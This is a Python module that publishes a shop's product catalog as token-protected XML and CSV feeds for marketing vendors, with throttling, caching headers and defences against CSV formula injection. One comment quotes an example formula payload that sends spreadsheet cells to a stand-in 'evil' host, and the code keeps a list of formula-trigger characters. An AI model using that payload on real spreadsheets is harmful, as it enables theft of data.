"""The product feeds: ``GET /feeds/{site_id}/products.xml`` and ``products.csv``.

The vendors fetch a shop's catalog by URL once a day, so onetag publishes the one it keeps
(``server/catalog.py``):

- ``products.xml``: Google Merchant Center's RSS 2.0 form, every product attribute in the
  ``g:`` namespace (``http://base.google.com/ns/1.0``). eSputnik/Reteno/Yespo's "Importing a
  Product Feed" asks for "XML, RSS 2.0 format according to the Google product
  specification" served as application/xml, text/xml or application/rss+xml, and lists its
  attributes with the prefix (``g:id``, ``g:title``, ``g:link``, ``g:image_link``,
  ``g:availability``, ``g:price``, ``g:brand``, ``g:description``,
  ``g:google_product_category``); Google's Product data specification reads them so too.
  ``g:id`` is the item_id, which eSputnik's ``productKey`` must equal.
- ``products.csv``: Remarkety's "Google Product Feed API" reads "a straightforward CSV format
  file" (UTF-8) with the columns id (which must match the product_id of orders and carts),
  item_group_id, title, link, image_link, description, sku, availability ("in stock" or
  "out of stock"), price ("XXX.YY USD"), brand and product_type (categories separated by
  "|"), fetched once a day. Its reader is Remarkety's importer, but an operator may open
  it in a spreadsheet, which runs a cell starting with = + - @, a tab or a carriage return
  as a formula: such a free-text cell (title, description, brand, product_type,
  google_product_category) starts with a ' instead (``csv_cell``). The identifiers (id,
  sku, item_group_id) are what events name products by, so they are written exactly; a
  product whose identifier would open as a formula is left out of this file
  (``csv_listed``). Links are http(s), prices and availability onetag's own words: none
  can start so. docs/security.md ("Catalog feeds") gives the reasons.

A product is in a feed when it is not deleted and has a link, an image, a title and a
price (``catalog.feed_problem``; ``onetag catalog`` counts the others, by reason). A product
whose availability nobody stated is listed as in stock: the page showed it for sale.

Guarded by the site's ``feed_token`` in the query string (``?token=``: the vendors fetch a
plain URL), compared in constant time; no token configured, no feed. Wrong tokens are bounded
per site and client address as the console's login is (``auth.SharedThrottle``, every node's counted
together): each is answered 0.5 s late, and an address with 5 within a minute gets 429 and
``Retry-After`` (its right token too) until the window has passed. The feeds answer
``ETag`` and ``Last-Modified`` (from the catalog's change count and latest change) and 304
to a matching ``If-None-Match`` / ``If-Modified-Since``, and are streamed a page of rows
at a time, so a large catalog never sits in memory.
"""

from __future__ import annotations

import csv
import email.utils
import hashlib
import io
import re
from typing import Any, AsyncIterator, Callable

from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse

from . import catalog, money
from .admin.auth import Guess, client_address, shared_throttle
from .events import echo

PAGE = 500  # products read a query
NAMESPACE = "http://base.google.com/ns/1.0"
FORMAT_VERSION = "2"  # part of the ETag: a change to the output's shape changes every tag
XML_TYPE = "application/rss+xml; charset=utf-8"
CSV_TYPE = "text/csv; charset=utf-8"
CSV_COLUMNS = ("id", "item_group_id", "title", "description", "link", "image_link", "sku",
               "availability", "price", "brand", "product_type", "google_product_category")
# Remarkety reads two availabilities; what can be ordered now (preorder, backorder) is in stock.
REMARKETY_AVAILABILITY = {"in_stock": "in stock", "out_of_stock": "out of stock",
                          "preorder": "in stock", "backorder": "in stock"}
# Characters XML 1.0 cannot carry, not even escaped: dropped from every value.
_NOT_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def clean(text: Any) -> str:
    return _NOT_XML.sub("", str(text))


def _escape(text: str) -> str:
    """Text content for XML: ``\r`` as a reference, since a parser reads a bare one as a
    line end."""
    return (text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            .replace("\r", "&#13;"))


def price_text(row: dict[str, Any]) -> str:
    """Google's and Remarkety's price: the amount, a space, the ISO 4217 code ("12.34 USD")."""
    return f"{money.major_str(row['price_minor'], row['currency'])} {row['currency']}"


def availability(row: dict[str, Any]) -> str:
    return row["availability"] or "in_stock"


def xml_item(row: dict[str, Any]) -> str:
    """One ``<item>``: every field the row has, in the g: namespace."""
    fields = [("id", row["item_id"]), ("title", row["title"]),
              ("description", row["description"]), ("link", row["item_url"]),
              ("image_link", row["image_url"]), ("availability", availability(row)),
              ("price", price_text(row)), ("brand", row["brand"]),
              ("product_type", " > ".join(row["categories"]) or None),
              ("google_product_category", row["google_product_category"]),
              ("item_group_id", row["item_group_id"])]
    cleaned = ((name, clean(value)) for name, value in fields if value is not None)
    inner = "".join(f"<g:{name}>{_escape(text)}</g:{name}>" for name, text in cleaned if text)
    return f"<item>{inner}</item>\n"


def xml_head(title: str, link: str) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<rss version="2.0" xmlns:g="{NAMESPACE}">\n<channel>\n'
            f"<title>{_escape(clean(title))}</title>\n<link>{_escape(clean(link))}</link>\n"
            f"<description>{_escape(clean(title))}, published by onetag</description>\n")


XML_TAIL = "</channel>\n</rss>\n"


# A cell a spreadsheet would read as a formula: Excel, LibreOffice and Google Sheets run a
# cell opening with one of these (``=HYPERLINK("http://evil/?"&A1,"x")`` sends the sheet's
# cells away when clicked). Titles and ids are the pages' claims, and an operator may open
# the feed in one (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The columns vendors join events on: Remarkety matches an order's or cart's product id and
# sku to the feed's ("the product id/sku should match a product from the products feed"),
# item_group_id gathers a product's variants. A leading ' would make them ids no event names.
IDENTIFIERS = ("item_id", "sku", "item_group_id")


def opens_as_formula(text: str) -> bool:
    return text.startswith(FORMULA_START)


def csv_cell(text: str) -> str:
    """Free text that would open as a formula gets a leading ': the spreadsheet shows the
    text, and the vendor shows one character more."""
    return "'" + text if opens_as_formula(text) else text


def csv_listed(row: dict[str, Any]) -> bool:
    """Whether products.csv lists a product the feeds take: not when an identifier would open
    as a formula, since its cell can't be both exact and inert (products.xml lists it)."""
    return not any(opens_as_formula(clean(row[key] or "")) for key in IDENTIFIERS)


def csv_row(row: dict[str, Any]) -> list[str]:
    """A listed product's cells (``csv_listed``): identifiers exactly, free text made inert;
    links (http(s) only, ``catalog.feed_problem``), availability and price can't open as a
    formula."""
    def exact(value: str | None) -> str:
        return "" if value is None else clean(value)

    def text(value: str | None) -> str:  # free text
        return csv_cell(exact(value))

    categories = "|".join(category.replace("|", "/") for category in row["categories"])
    return [exact(row["item_id"]), exact(row["item_group_id"]), text(row["title"]),
            text(row["description"]), exact(row["item_url"]), exact(row["image_url"]),
            exact(row["sku"]), REMARKETY_AVAILABILITY[availability(row)], price_text(row),
            text(row["brand"]), text(categories), text(row["google_product_category"])]


def csv_line(row: dict[str, Any]) -> str:
    """A product's line of products.csv, or "" when the file leaves it out."""
    return _csv_line(csv_row(row)) if csv_listed(row) else ""


def etag(kind: str, site: Any, state: tuple[int, int, int], link: str) -> str:
    digest = hashlib.sha256(f"{FORMAT_VERSION}:{kind}:{site.id}:{link}:{state}".encode())
    return f'"{digest.hexdigest()[:32]}"'


def not_modified(request: Request, tag: str, last_modified_s: int) -> bool:
    """RFC 9110 13.1: If-None-Match when present (weak comparison), else If-Modified-Since."""
    match = request.headers.get("if-none-match")
    if match is not None:
        return etag_matches(match, tag)
    since = request.headers.get("if-modified-since")
    if since is not None:
        when = http_date_seconds(since)
        return when is not None and last_modified_s <= when
    return False


def etag_matches(header: str, tag: str) -> bool:
    if header.strip() == "*":
        return True
    wanted = tag.removeprefix("W/")
    return any(part.strip().removeprefix("W/") == wanted for part in header.split(","))


def http_date_seconds(text: str) -> int | None:
    """An HTTP date as Unix seconds; None when it is not one."""
    try:
        when = email.utils.parsedate_to_datetime(text)
    except (TypeError, ValueError, IndexError, OverflowError):
        return None
    if when is None or when.tzinfo is None:
        return None
    try:
        return int(when.timestamp())
    except (OverflowError, OSError, ValueError):
        return None


class Feeds:
    """The two feed endpoints of every site."""

    def __init__(self, settings: Any, store: Any, page: int = PAGE):
        self.settings = settings
        self.store = store
        self.page = page
        self.guesses = shared_throttle(store, "feed_token")  # wrong tokens, per site, address

    async def xml(self, request: Request) -> Response:
        return await self._feed(request, "xml")

    async def csv(self, request: Request) -> Response:
        return await self._feed(request, "csv")

    def link(self, site: Any) -> str:
        return site.origins[0] if site.origins else self.settings.server.public_url

    async def _feed(self, request: Request, kind: str) -> Response:
        site_id = request.path_params["site_id"]
        site = self.settings.sites.get(site_id)
        if site is None:
            return _error(404, "not_found", "site", f"no site {echo(site_id)}")
        if not site.feed_token:
            return _error(404, "no_feed", "feed_token", f"site {echo(site_id)} has no product feed: "
                          f"set sites[{site_id}].feed_token in the config to publish one")
        given = request.query_params.get("token", "")
        # a guess is bounded; no token at all is just refused
        guess = (await self.guesses.check(client_address(request), given, site.feed_token,
                                          site.id) if given else Guess(0, False))
        if guess.wait:
            return _error(429, "too_many_requests", "token", f"too many wrong feed tokens from "
                          f"your address; try again in {guess.wait} s",
                          {"Retry-After": str(guess.wait)})
        if not guess.right:
            return _error(403, "forbidden", "token", "missing or wrong feed token (?token=...)")
        state = await self.store.catalog_state(site.id)
        link = self.link(site)
        tag = etag(kind, site, state, link)
        last_modified_s = state[1] // 1000
        headers = {"ETag": tag, "Last-Modified": email.utils.formatdate(last_modified_s,
                                                                        usegmt=True),
                   "Cache-Control": "private, no-cache", "X-Robots-Tag": "noindex"}
        if not_modified(request, tag, last_modified_s):
            return Response(status_code=304, headers=headers)
        if kind == "xml":
            body = self._stream(xml_head(f"{site.id} products", link), xml_item, XML_TAIL, site.id)
            return StreamingResponse(body, media_type=XML_TYPE, headers=headers)
        body = self._stream(_csv_line(list(CSV_COLUMNS)), csv_line, "", site.id)
        return StreamingResponse(body, media_type=CSV_TYPE, headers=headers)

    async def _stream(self, head: str, render: Callable[[dict[str, Any]], str], tail: str,
                      site_id: str) -> AsyncIterator[bytes]:
        yield head.encode()
        after = None
        while True:
            rows = await self.store.catalog_page(site_id, after, self.page)
            if not rows:
                break
            chunk = "".join(render(row) for row in rows if catalog.feed_problem(row) is None)
            if chunk:
                yield chunk.encode()
            after = rows[-1]["item_id"]
            if len(rows) < self.page:
                break
        if tail:
            yield tail.encode()


def _csv_line(values: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(values)
    return out.getvalue()


def _error(status: int, error: str, field: str, message: str,
           headers: dict[str, str] | None = None) -> JSONResponse:
    return JSONResponse({"error": error, "message": message,
                         "errors": [{"field": field, "problem": message}]},
                        status_code=status, headers={"Cache-Control": "no-store", **(headers or {})})
